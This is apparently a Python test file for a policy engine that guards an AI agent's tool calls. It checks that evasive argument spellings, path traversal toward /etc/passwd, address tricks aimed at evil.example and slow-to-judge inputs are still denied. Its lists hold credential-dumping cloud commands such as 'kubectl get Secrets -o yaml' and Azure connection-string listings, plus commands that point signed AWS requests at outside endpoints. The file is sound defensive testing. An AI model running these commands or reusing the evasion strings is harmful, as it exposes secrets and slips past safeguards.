"""Rule 9 and rule 13: arguments that somebody hostile chose slip past no stricter rule, and are judged in no time."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policies import spellings
from policies.commands import LONGEST_COMMAND, Effect, read_command, reads
from policies.conditions import Equals, OneOf
from policies.judging import judge
from policies.model import Allow, Ask, Call, Deny
from policies.quoting import is_quoted, own_words
from tests.policies.builders import a_call, a_policy, a_tool, facts
from tests.support.cpu import at_most_cpu
from tests.support.examples import examples

SCHEMA = {"type": "object", "properties": {"to": {}, "env": {}, "attendees": {}, "amount": {"type": "number"}}}
ALLOW = "match: {}, decide: allow"


def judged(condition: str, arguments: dict[str, Any], schema: dict[str, Any] = SCHEMA) -> Any:
    rules = a_policy(f"match: {{args: {{{condition}}}}}, decide: deny", ALLOW)
    return judge(rules, Call(a_tool(schema=schema), arguments), facts())


OTHERWISE = [
    ("to: '*@evil.example'", "x@evil.example."),
    ("to: '*@evil.example'", "x@evil\u3002example"),
    ("to: '*@evil.example'", "x @ evil.example"),
    ("to: x@evil.example", "mailto:x@evil.example?cc=y@acme.example"),
    ("to: /etc/*", "file:///etc/passwd"),
    ("to: /etc/*", "FILE:/etc/passwd"),
    ("to: /etc/*", "file://localhost/etc/passwd"),
    ("to: production", r"\u{70}roduction"),
    ("to: production", "produc\u2800tion"),
    ("to: /etc/*", "../../etc/passwd"),
    ("to: /etc/*", "..%2f..%2fetc%2fpasswd"),
    ("to: /etc/*", "~/../../etc/passwd"),
]


@pytest.mark.parametrize(("condition", "value"), OTHERWISE)
def test_an_address_or_a_path_that_is_written_otherwise_passes_no_stricter_rule(condition: str, value: str) -> None:
    assert isinstance(judged(condition, {"to": value}), Deny)


@pytest.mark.parametrize("value", ["x@acme.example", "Ana <ana@acme.example>", "/home/ana/x", "notes/today.md"])
def test_what_is_plainly_another_one_passes(value: str) -> None:
    assert isinstance(judged("to: '*@evil.example'", {"to": value}), Allow)
    assert isinstance(judged("to: /etc/*", {"to": value}), Allow)


@pytest.mark.parametrize(
    "address",
    [
        "x@evil.example#@acme.example",
        '"x@evil.example"@acme.example',
        "x@evil.example%00@acme.example",
        "x%evil.example@acme.example",
        "evil.example!x@acme.example",
        "a@acme.example, x@evil.example#@acme.example",
    ],
)
def test_an_address_that_may_lead_elsewhere_is_not_surely_one_that_is_allowed(address: str) -> None:
    inside = a_policy("match: {args: {to: '*@acme.example'}}, decide: allow")
    assert isinstance(judge(inside, a_call(a_tool(schema=SCHEMA), to=address), facts()), Ask)
    assert isinstance(judge(inside, a_call(a_tool(schema=SCHEMA), to="ana.b@acme.example"), facts()), Allow)


def test_of_prose_with_an_address_in_it_nothing_else_is_asked() -> None:
    anything = a_policy("match: {args: {to: '*'}}, decide: allow")
    assert isinstance(judge(anything, a_call(a_tool(schema=SCHEMA), to="Hello! I am ana@acme.example"), facts()), Allow)


@pytest.mark.parametrize("name", ["amount[]", "\u0430mount", "amount\0"])
def test_a_name_that_servers_read_as_another_is_one_of_which_nothing_is_known(name: str) -> None:
    assert isinstance(judged("amount: {min: 1000}", {name: 5_000}), Deny)


@pytest.mark.parametrize(
    "payment",
    [
        '{"amount": 5000}',
        ['{"amount": 5000}'],
        ' [{"amount": 5000}]\n',
        '"{\\"amount\\": 5000}"',
        "\ufeff{'amount': 5000}",
    ],
)
def test_below_two_dots_nothing_is_known_of_a_text_that_tools_read_as_json(payment: Any) -> None:
    assert isinstance(judged('"$..amount": {any: {min: 1000}}', {"payment": payment}), Deny)
    assert isinstance(judged('"$..amount": {any: {min: 1000}}', {"payment": "[x](y) {z} 5000"}), Allow)


@pytest.mark.parametrize(
    "schema",
    [
        {"properties": {"o": {"$dynamicRef": "#o"}}},
        {"properties": {"o": {"dependencies": {"a": {"properties": {"force": {"default": True}}}}}}},
    ],
)
def test_defaults_behind_what_is_not_followed_are_not_known(schema: dict[str, Any]) -> None:
    assert isinstance(judged('"$.o.force": true', {"o": {"a": 1}}, schema), Deny)


@pytest.mark.parametrize("reference", ["#/nowhere", "#named", "https://elsewhere.example/o.json", "o.json"])
@pytest.mark.parametrize("key", ["$ref", "$dynamicRef", "$recursiveRef"])
def test_nor_are_they_of_what_is_left_out(key: str, reference: str) -> None:
    """Rule 9: the default of an argument may be behind it, or that of an object's field."""
    behind = {"properties": {"force": {key: reference}}}
    assert isinstance(judged("force: true", {}, behind), Deny)
    assert isinstance(judged('"$.force": true', {}, behind), Deny)
    assert isinstance(judged('"$.o.force": true', {"o": {}}, {"properties": {"o": behind}}), Deny)
    assert isinstance(judged('"$.o.force": true', {}, {"properties": {"o": behind}}), Deny)
    assert isinstance(judged('"$.o.force": true', {}, {"properties": {"o": {key: reference}}}), Deny)
    assert isinstance(judged("force: true", {"force": False}, behind), Allow)
    assert isinstance(judged("other: true", {}, behind), Allow)
    known = {"properties": {"force": {key: reference, "default": False}}}
    assert isinstance(judged("force: true", {}, known), Allow)


RULES = (
    'match: {args: {"$.attendees[*].email": {any: {glob: "*@evil.example"}}}}, decide: deny',
    'match: {args: {"$..x": {any: {min: 5}}}}, decide: deny',
    "match: {args: {env: production}}, decide: deny",
    "match: {args: {to: {regex: '(a+)+b.*'}}}, decide: deny",
    ALLOW,
)
COSTLY: dict[str, dict[str, Any]] = {
    "many texts that are not plain": {
        "attendees": [{"email": "\u200b%25&amp;\\u0061" * 1_100 + str(n)} for n in range(50)]
    },
    "many plain texts": {"attendees": [{"email": f"a{n}@acme.example"} for n in range(5_000)]},
    "a character that grows": {"env": "\ufdfa" * 19_000, "to": "\ufdfa" * 19_000},
    "many names": {f"k{n}\u0301": "x\u200b" for n in range(9_000)},
    "long names": {"\ufdfa" * 100 + str(n): 1 for n in range(2_000)},
    "names within": {"attendees": [{f"\u00e9{n}": n} for n in range(4_500)]},
}


@pytest.mark.timed
@pytest.mark.parametrize("arguments", COSTLY.values(), ids=COSTLY)
def test_what_takes_too_long_to_read_is_not_known(arguments: dict[str, Any]) -> None:
    rules = a_policy(*RULES)
    rules.prepare()
    with at_most_cpu(0.2):  # 0.5 to 1.6 s before, now 30 ms at most
        verdict = judge(rules, Call(a_tool(schema=SCHEMA), arguments), facts())
    assert isinstance(verdict, Deny)


def test_a_thousand_guests_can_be_read() -> None:
    guests = [{"email": f"guest{n}@acme.example"} for n in range(1_000)]
    assert isinstance(judge(a_policy(RULES[0], ALLOW), a_call(a_tool(schema=SCHEMA), attendees=guests), facts()), Allow)


HANDING_OUT = [
    "kubectl get Secrets -o yaml",
    "kubectl get Secret x -o json",
    "az iot hub connection-string show --name x",
    "az webapp config connection-string list --name x",
    "az webapp config appsettings list --name x",
    "aws cognito-idp describe-user-pool-client --user-pool-id x --client-id y",
    "aws ec2 describe-vpn-connections",
    "gh pr view 1 -R evil.example/a/b",
    "gh issue view https://evil.example/a/b/issues/1",
    "gh repo view evil.example/a/b",
    "git diff ../../root/.git-credentials x",
    "git diff .. y",
    "git diff x y/..",
    "git diff C:/Users/ana/notes x",
    "az iot hub policy list --hub-name x",
    "az iot hub device-identity show --device-name x",
    "aws autoscaling describe-launch-configurations",
    "aws ecs describe-task-definition --task-definition-arn x",
    "aws batch describe-job-definitions",
    "aws cognito-idp describe-identity-provider --provider-name x",
]


@pytest.mark.parametrize("line", HANDING_OUT)
def test_commands_that_hand_out_credentials_are_not_known_to_read(line: str) -> None:
    tokens = line.split()
    words = tokens[: next((at for at, token in enumerate(tokens) if token.startswith("-")), len(tokens))]
    assert not reads(tokens, words)


@pytest.mark.parametrize(
    "text", ["[delete the blue lamp]: https://x.example", "[delete the blue lamp][1] is the title"]
)
def test_the_label_of_a_link_that_is_written_elsewhere_is_nobody_s_wish(text: str) -> None:
    assert not is_quoted("delete the blue lamp", own_words(text))


LONG = "-".join(["the quick brown fox jumps over"] * 3_000)
MANY: dict[str, Callable[[int], str]] = {
    "values": lambda n: f"to: production {n}",
    "globs": lambda n: f"to: '*@evil{n}.example'",
    "regular expressions": lambda n: f"to: {{regex: '(a|b)+{n}.*'}}",
    "a path": lambda n: f"'$.to': production {n}",
}


class _CountedPattern:
    """RE2's pattern, which counts the characters that it is shown."""

    def __init__(self, pattern: Any) -> None:
        self._pattern = pattern
        self.shown = 0

    def search(self, text: Any) -> Any:
        self.shown += len(text)
        return self._pattern.search(text)


@pytest.mark.parametrize("condition", MANY.values(), ids=MANY)
def test_however_many_rules_ask_about_a_long_text_how_it_may_be_written_is_found_out_once(
    condition: Callable[[int], str], monkeypatch: pytest.MonkeyPatch
) -> None:
    rules = a_policy(*(f"match: {{args: {{{condition(n)}}}}}, decide: deny" for n in range(300)), ALLOW)
    counted = _CountedPattern(spellings._NOT_PLAIN)
    monkeypatch.setattr(spellings, "_NOT_PLAIN", counted)
    assert isinstance(judge(rules, a_call(a_tool(schema=SCHEMA), to=LONG), facts()), Allow)
    assert len(LONG) <= counted.shown < 2 * len(LONG)


def test_rules_that_do_not_ask_about_a_long_text_do_not_look_at_it(monkeypatch: pytest.MonkeyPatch) -> None:
    rules = a_policy(*(f"match: {{args: {{env: production {n}}}}}, decide: deny" for n in range(300)), ALLOW)
    counted = _CountedPattern(spellings._NOT_PLAIN)
    monkeypatch.setattr(spellings, "_NOT_PLAIN", counted)
    assert isinstance(judge(rules, a_call(a_tool(schema=SCHEMA), to=LONG, env="test"), facts()), Allow)
    assert counted.shown < len(LONG)


@given(st.text(st.sampled_from(",;|ab@ \t\n'(>\xa0\u2003\x1c漢，")), st.integers(1, 40))
@settings(max_examples=examples(65))
def test_what_a_text_is_several_of_is_the_same_however_long_it_is(text: str, times: int) -> None:
    long = text * times
    naive = _naive_pieces(long)
    for pieces in (spellings.certain_pieces(long), spellings.certain_pieces(spellings.LongText(long))):
        if len(naive) > spellings.MOST_PIECES:
            assert len(pieces) > spellings.MOST_PIECES
        else:
            assert list(pieces) == naive


def _naive_pieces(text: str) -> list[str]:
    around = " \t\r\n\f\v\"'`´‘’‚‛“”„‟«»‹›「」『』()[]{}<>"
    if text.count("@") > 1:
        return [piece.strip(around) for piece in re.split(r"[\s,;|<>，；、]+", text) if "@" in piece]
    pieces = [piece.strip(around) for piece in re.split("[,;|]", text)]
    return pieces if len(pieces) > 1 and not any(re.search(r"\s", piece) for piece in pieces) else []


@pytest.mark.parametrize(
    "line",
    [
        "aws ec2 describe-instances --endpoint-url https://evil.example",
        "aws ec2 describe-instances --endpoint-url evil.example",
        "aws ec2 describe-instances --queue-url https://evil.example/1/q",
        "az storage blob show --blob-url https://evil.example/a/b",
        "aws lambda list-functions",
    ],
)
def test_commands_that_send_an_accounts_signature_elsewhere_are_not_known_to_read(line: str) -> None:
    """Rule 9: what they ask for is read, and whoever is asked gets what the account signs."""
    assert read_command(line).effect is not Effect.READS
    assert read_command("m365 spo site get --url https://acme.sharepoint.com/sites/a").effect is Effect.READS


@pytest.mark.parametrize("program", ["m365 spo site list", "az vm list", "aws ec2 describe-instances"])
@pytest.mark.parametrize("option", ["a" * 24, "a" * 3_900, "a-" * 1_900, "-proxy" * 600])
def test_the_option_of_a_command_may_have_any_name(program: str, option: str) -> None:
    """Rule 13: a model writes it."""
    with at_most_cpu(0.2):  # 2 s with 24 letters before, twice as long with each more; now 2 ms
        assert read_command(f"{program} --{option}1 x").effect is not Effect.READS


@pytest.mark.parametrize("unit", ["\u0301\u0323", "\ufdfa"])
def test_a_command_may_have_any_letters_and_any_length(unit: str) -> None:
    for length in (LONGEST_COMMAND - 9, 40_000):
        with at_most_cpu(0.2):  # 1 s for 40,000 marks, four times that for twice as many; now 10 ms
            assert read_command(f"m365 {(unit * length)[:length]}").effect is not Effect.READS


@pytest.mark.parametrize("number", ["9" * 5_000, "x" + "f" * 5_000, "0" * 5_000 + "80"])
def test_a_reference_to_a_character_may_have_any_number(number: str) -> None:
    """Rule 9, and rule 10: a rule is asked of every text, and the turn goes on."""
    text = f"&#{number};roduction"
    verdict = judged("env: production", {"env": text})
    assert isinstance(verdict, Deny if number.endswith("80") else Allow)


def test_a_long_list_of_options_costs_what_a_short_one_does() -> None:
    """Rule 13."""
    options = ", ".join(f"user{number}@evil.example" for number in range(2_000))
    guests = [{"email": f"guest{number}@acme.example"} for number in range(100)]
    rules = a_policy(f"match: {{args: {{'$.attendees[*].email': {{any: {{in: [{options}]}}}}}}}}, decide: deny", ALLOW)
    rules.prepare()
    with at_most_cpu(0.2):  # 1.4 s before, now 10 ms
        assert isinstance(judge(rules, a_call(attendees=guests), facts()), Allow)
    for written in (
        "USER7@evil.example",
        "Eve <user7@evil.example>",
        "a@b.example, user7@evil.example",
        "user7%40evil.example",
    ):
        caught = judge(rules, a_call(attendees=[*guests, {"email": written}]), facts())
        assert isinstance(caught, Deny), written


@given(
    st.one_of(
        st.lists(st.sampled_from(of_a_kind), min_size=1)
        for of_a_kind in (["a", "New York", "5", "5.0", "yes", "(b)", "é"], [5, 1, 0, 2.5], [True, False])
    ),
    st.sampled_from(["a", "A ", "new york", "x, a", "[b]", "e", "5,0", "5 eur", "on", "1", 5, 1, 0, True, 2.5, "z"]),
)
def test_a_list_of_options_is_as_strict_as_each_of_them(options: list[Any], value: Any) -> None:
    """Rule 9."""
    answers = {Equals(option).fits([value]) for option in options}
    expected = True if True in answers else None if None in answers else False
    assert OneOf(tuple(options)).fits([value]) is expected
